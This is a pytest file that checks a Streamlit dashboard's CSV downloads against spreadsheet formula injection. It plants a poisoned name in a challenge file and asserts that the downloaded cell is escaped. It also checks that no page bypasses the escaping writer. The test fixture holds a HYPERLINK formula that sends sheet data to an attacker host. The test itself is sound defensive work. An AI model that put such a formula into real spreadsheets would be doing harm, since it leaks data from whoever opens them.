"""What a dashboard download can do to the spreadsheet that opens it: each table's CSV goes through the one CSV
neutralisation (:func:`muttlab.escaping.csv_frame`), so a name someone else wrote is a cell, never a formula."""
from __future__ import annotations

import csv
import io

import streamlit

from tests.conftest import REPO
from tests.dashboard.conftest import app_env, open_link  # noqa: F401 (fixture)

ACES = REPO / "tests" / "suites" / "files" / "aces.tsv"
FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"open")'


def test_a_poisoned_phenomenon_name_downloads_as_text_not_a_formula(app_env, monkeypatch, tmp_path):
    """Attack: a challenge set whose phenomenon is a spreadsheet formula; a reviewer downloads the page's table
    and opens it in a spreadsheet, which would follow the link with the sheet's data."""
    root = tmp_path / "data"
    (root / "challenge").mkdir(parents=True)
    lines = ACES.read_text(encoding="utf-8").rstrip("\n").split("\n")
    row = lines[2].split("\t")
    poisoned = "\t".join(row[:5] + [FORMULA] + row[6:])
    (root / "challenge" / "aces.tsv").write_text("\n".join(lines + [poisoned]) + "\n", encoding="utf-8")
    monkeypatch.setenv("MUTTLAB_DATA_DIR", str(root))
    downloads = {}
    real = streamlit.download_button

    def keep(label, data, *args, **kwargs):  # what the browser would receive when the button is pressed
        downloads[kwargs.get("key")] = data
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", keep)
    at = open_link("challenge", {"file": "challenge/aces.tsv", "metrics": "chrF"})
    at = at.button(key="ch-score").click().run()  # the link fills the form; the button scores
    assert not at.exception
    summary = next(d.value for d in at.dataframe if "tau" in d.value.columns)
    assert FORMULA in set(summary["phenomenon"])  # the page shows the name as it is
    data = downloads["ch-summary-csv"]
    text = (data() if callable(data) else data).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [r["phenomenon"] for r in rows]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values() if not _number(c))
    # Numbers stay numbers, at full precision.
    shown = summary.set_index("phenomenon")["tau"]
    for r in rows:
        if r["tau"]:
            assert float(r["tau"]) == shown[r["phenomenon"].removeprefix("'")]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_table_download_on_the_dashboard_uses_the_neutralised_writer():
    """Attack: a new table added with ``frame.to_csv`` would bypass the neutralisation; no page calls it."""
    sources = list((REPO / "dashboard").rglob("*.py"))
    assert sources
    assert [str(p.relative_to(REPO)) for p in sources if ".to_csv(" in p.read_text(encoding="utf-8")] == []
